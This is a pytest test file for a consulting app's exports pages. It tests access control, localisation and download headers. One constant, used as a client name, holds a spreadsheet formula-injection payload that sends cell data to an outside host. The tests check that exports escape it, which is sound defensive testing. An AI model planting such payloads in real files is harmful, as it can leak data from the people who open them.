"""The exports page and its files, as a consultant, a viewer and a stranger see them (DESIGN §9)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from factories import (
    cx_maturity,
    make_assessment,
    make_member,
    make_organization,
    make_respondent,
    make_user,
    make_workspace,
)
from web_helpers import log_in

from cxmaturity.services.snapshots import refresh_snapshot
from cxmaturity.store.database import transaction
from cxmaturity.web.context import services_of

QUESTIONNAIRE = cx_maturity()
HOSTILE = '=HYPERLINK("http://x?"&A1)'


@pytest.fixture
def world(app, sessions):
    catalogue = services_of(app).catalogue
    with transaction(sessions) as session:
        workspace = make_workspace(session, slug="nord", name="Beratung Nord")
        client = make_organization(session, name=HOSTILE, workspace=workspace)
        assessment = make_assessment(session, client, status="closed")
        for name in ("Anna", "Ben", "Cem"):
            make_respondent(
                session, assessment, name, answers=dict.fromkeys(QUESTIONNAIRE.questions, 3),
                submitted=True,
            )  # fmt: skip
        session.flush()
        refresh_snapshot(session, catalogue, assessment)
        english = make_user(session, language="en")
        make_member(session, workspace, english, role="consultant")
        emails = {
            "consultant": english.email,
            "german": make_member(session, workspace, role="owner").email,
            "viewer": make_member(session, workspace, role="viewer").email,
            "other": make_member(session, make_workspace(session, slug="sued")).email,
        }
    return {"client": client.id, **emails}


def test_the_consultant_finds_every_download_on_the_exports_page(client, world):
    log_in(client, world["consultant"])
    page = client.get("/w/nord/exports/")
    assert page.status_code == 200
    text = page.get_data(as_text=True)
    # Each starts a job (issue 12; tests/web/test_export_jobs_pages.py).
    assert 'name="format" value="xlsx"' in text and "Make the XLSX" in text
    for table in ("assessments", "dimension_scores", "answers", "participation", "kpis"):
        assert f'name="table" value="{table}"' in text


def test_the_workspaces_files_still_download_directly_at_their_old_addresses(client, world):
    log_in(client, world["consultant"])
    assert client.get("/w/nord/exports/workspace.xlsx").status_code == 200
    assert client.get("/w/nord/exports/answers.csv").status_code == 200


def test_the_exports_page_speaks_german(client, world):
    log_in(client, world["german"])
    text = client.get("/w/nord/exports/", headers={"Accept-Language": "de"}).get_data(as_text=True)
    assert "Exporte" in text
    assert "Dimensionswerte" in text


def test_the_client_page_links_its_own_exports(client, world):
    log_in(client, world["consultant"])
    text = client.get(f"/w/nord/clients/{world['client']}").get_data(as_text=True)
    assert f"/w/nord/clients/{world['client']}/exports/client.xlsx" in text
    assert f"/w/nord/clients/{world['client']}/exports/answers.csv" in text


def test_a_workspace_csv_downloads_with_its_name_and_a_safe_client_name(client, world):
    log_in(client, world["consultant"])
    response = client.get("/w/nord/exports/assessments.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and "nord-assessments-" in disposition
    assert response.headers["Cache-Control"] == "no-store"
    rows = list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert [row["client"] for row in rows] == ["'" + HOSTILE]
    assert rows[0]["submitted"] == "3"


def test_a_client_xlsx_opens_with_a_sheet_per_table(client, world):
    log_in(client, world["consultant"])
    response = client.get(f"/w/nord/clients/{world['client']}/exports/client.xlsx")
    assert response.status_code == 200
    assert f"nord-client-{world['client']}-" in response.headers["Content-Disposition"]
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    assert "answers" in book.sheetnames
    assert book["assessments"]["C2"].value == "'" + HOSTILE
    assert book["dimension_scores"]["J2"].value == 3  # score_shown of strategy


def test_a_viewer_is_refused_the_exports(client, world):
    log_in(client, world["viewer"])
    assert client.get("/w/nord/exports/").status_code == 403
    assert client.get("/w/nord/exports/answers.csv").status_code == 403
    text = client.get(f"/w/nord/clients/{world['client']}").get_data(as_text=True)
    assert "exports/client.xlsx" not in text


def test_another_workspaces_user_and_an_unknown_table_get_404(client, world):
    log_in(client, world["other"])
    assert client.get("/w/nord/exports/").status_code == 404
    assert client.get("/w/nord/exports/workspace.xlsx").status_code == 404
    assert client.get(f"/w/nord/clients/{world['client']}/exports/answers.csv").status_code == 404


def test_an_unknown_table_gets_404(client, world):
    log_in(client, world["consultant"])
    assert client.get("/w/nord/exports/people.csv").status_code == 404
    assert client.get(f"/w/nord/clients/{world['client']}/exports/people.csv").status_code == 404
